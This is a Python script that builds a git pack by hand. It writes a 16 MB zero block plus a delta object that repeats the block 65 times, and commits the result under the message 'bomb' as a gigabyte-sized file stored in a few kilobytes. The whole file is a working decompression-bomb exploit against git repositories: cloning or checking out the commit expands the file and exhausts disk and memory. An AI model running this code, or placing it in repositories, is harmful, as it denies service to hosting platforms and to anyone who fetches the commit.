"""Puts a commit onto the branch that is checked out here, with a file of a gigabyte that takes a few kilobytes of a pack.

Git makes no such pack by itself: the file is a difference that copies one block again and again.
"""

import hashlib
import struct
import subprocess
import zlib

BLOCK = bytes(0xFFFFFF)
TIMES = 65


def git(*words, given=None):
    done = subprocess.run(["git", *words], input=given, stdout=subprocess.PIPE, check=True)
    return done.stdout.decode().strip()


def size(number):
    """A number as a difference has it: seven bits a byte."""
    written = bytearray()
    while True:
        number, low = number >> 7, number & 0x7F
        written.append(low | 0x80 if number else low)
        if not number:
            return bytes(written)


def header(kind, length):
    """What stands before each object of a pack."""
    length, byte = length >> 4, kind << 4 | length & 0xF
    written = bytearray()
    while length:
        written.append(byte | 0x80)
        length, byte = length >> 7, length & 0x7F
    return bytes(written + bytes([byte]))


def name(blocks):
    digest = hashlib.sha1(b"blob %d\0" % (len(BLOCK) * blocks))
    for _ in range(blocks):
        digest.update(BLOCK)
    return digest.digest()


difference = size(len(BLOCK)) + size(len(BLOCK) * TIMES) + b"\xf0\xff\xff\xff" * TIMES
objects = [
    (name(1), header(3, len(BLOCK)) + zlib.compress(BLOCK, 9)),
    (name(TIMES), header(7, len(difference)) + name(1) + zlib.compress(difference, 9)),
]
pack, places = bytearray(b"PACK" + struct.pack(">II", 2, len(objects))), []
for digest, written in objects:
    places.append((digest, zlib.crc32(written), len(pack)))
    pack += written
pack += hashlib.sha1(pack).digest()
places.sort()
index = bytearray(b"\xfftOc" + struct.pack(">I", 2))
for first in range(256):
    index += struct.pack(">I", sum(digest[0] <= first for digest, _, _ in places))
index += b"".join(digest for digest, _, _ in places)
index += b"".join(struct.pack(">I", check) for _, check, _ in places)
index += b"".join(struct.pack(">I", place) for _, _, place in places)
index += pack[-20:]
index += hashlib.sha1(index).digest()
for end, written in (("pack", pack), ("idx", index)):
    with open(f".git/objects/pack/pack-{pack[-20:].hex()}.{end}", "wb") as file:
        file.write(written)
tree = git("mktree", given=b"".join(b"100644 blob %s\t%s\n" % (digest.hex().encode(), called) for digest, called in ((name(1), b"block"), (name(TIMES), b"large"))))
git("update-ref", "HEAD", git("-c", "user.name=a", "-c", "user.email=a@b", "commit-tree", "-p", "HEAD", "-m", "bomb", tree))
